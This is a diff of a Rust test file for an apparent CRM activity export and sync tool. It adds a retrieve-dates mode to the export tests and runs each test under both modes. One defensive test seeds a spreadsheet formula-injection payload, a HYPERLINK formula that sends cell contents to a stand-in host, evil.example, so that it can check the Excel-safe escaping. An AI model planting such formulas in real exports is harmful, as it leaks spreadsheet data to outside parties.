@@ -5,16 +5,19 @@
 use std::collections::{BTreeMap, HashSet};
 
 use lsq_sync::lsq::api::{ActivityItem, FieldValue};
-use lsq_sync::simulator::{DEMO_OWNERS, PagingMode, RunningSimulator, SimConfig, demo_lead_id};
+use lsq_sync::simulator::{
+    DEMO_OWNERS, PagingMode, RetrieveDates, RunningSimulator, SimConfig, demo_lead_id,
+};
 
 use crate::support::*;
 
 const RATE: &str = API_RATE;
 
-fn fast_sim(paging: PagingMode) -> SimConfig {
+fn fast_sim(paging: PagingMode, dates: RetrieveDates) -> SimConfig {
     SimConfig {
         rate: Some(RATE.parse().expect("quota")),
         paging,
+        retrieve_dates: dates,
         ..SimConfig::default()
     }
 }
@@ -50,8 +53,8 @@ fn seed(sim: &RunningSimulator, lead: &str, code: i64, n: usize, tag: &str) -> V
         .collect()
 }
 
-async fn exports_everything_once(paging: PagingMode) {
-    let sim = simulator(fast_sim(paging)).await;
+async fn exports_everything_once(paging: PagingMode, dates: RetrieveDates) {
+    let sim = simulator(fast_sim(paging, dates)).await;
     let big = demo_lead_id(1);
     let small = demo_lead_id(2);
     let missing = "0f0e0d0c-0b0a-4909-8807-060504030201";
@@ -118,19 +121,16 @@ async fn exports_everything_once(paging: PagingMode) {
     );
 }
 
-#[tokio::test(flavor = "multi_thread")]
-async fn export_reads_every_activity_once_with_zero_based_pages() {
-    exports_everything_once(PagingMode::ZeroBasedPage).await;
+async fn export_reads_every_activity_once_with_zero_based_pages(dates: RetrieveDates) {
+    exports_everything_once(PagingMode::ZeroBasedPage, dates).await;
 }
 
-#[tokio::test(flavor = "multi_thread")]
-async fn export_reads_every_activity_once_with_one_based_pages() {
-    exports_everything_once(PagingMode::OneBasedPage).await;
+async fn export_reads_every_activity_once_with_one_based_pages(dates: RetrieveDates) {
+    exports_everything_once(PagingMode::OneBasedPage, dates).await;
 }
 
-#[tokio::test(flavor = "multi_thread")]
-async fn export_reads_every_activity_once_with_row_offsets() {
-    exports_everything_once(PagingMode::RowOffset).await;
+async fn export_reads_every_activity_once_with_row_offsets(dates: RetrieveDates) {
+    exports_everything_once(PagingMode::RowOffset, dates).await;
 }
 
 /// What an activity is, apart from where it lives: lead, code, note, date, owner, fields.
@@ -154,10 +154,9 @@ fn essence(a: &lsq_sync::simulator::StoredActivity) -> Essence {
     )
 }
 
-#[tokio::test(flavor = "multi_thread")]
-async fn an_export_imports_as_is_into_another_account() {
-    let source = simulator(fast_sim(PagingMode::RowOffset)).await;
-    let target = simulator(fast_sim(PagingMode::ZeroBasedPage)).await;
+async fn an_export_imports_as_is_into_another_account(dates: RetrieveDates) {
+    let source = simulator(fast_sim(PagingMode::RowOffset, dates)).await;
+    let target = simulator(fast_sim(PagingMode::ZeroBasedPage, dates)).await;
     let leads = [demo_lead_id(3), demo_lead_id(4)];
     seed(&source, &leads[0], 201, 40, "a");
     seed(&source, &leads[1], 201, 3, "b");
@@ -216,9 +215,8 @@ async fn an_export_imports_as_is_into_another_account() {
     );
 }
 
-#[tokio::test(flavor = "multi_thread")]
-async fn excel_safe_prefixes_formula_cells_of_the_export() {
-    let sim = simulator(fast_sim(PagingMode::ZeroBasedPage)).await;
+async fn excel_safe_prefixes_formula_cells_of_the_export(dates: RetrieveDates) {
+    let sim = simulator(fast_sim(PagingMode::ZeroBasedPage, dates)).await;
     let lead = demo_lead_id(5);
     let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
     sim.sim.add_activity(ActivityItem {
@@ -255,3 +253,11 @@ async fn excel_safe_prefixes_formula_cells_of_the_export() {
         assert_eq!(rows[0]["mx_Custom_1"], "-5", "{flag:?}");
     }
 }
+
+under_both_retrieve_modes!(
+    export_reads_every_activity_once_with_zero_based_pages,
+    export_reads_every_activity_once_with_one_based_pages,
+    export_reads_every_activity_once_with_row_offsets,
+    an_export_imports_as_is_into_another_account,
+    excel_safe_prefixes_formula_cells_of_the_export,
+);
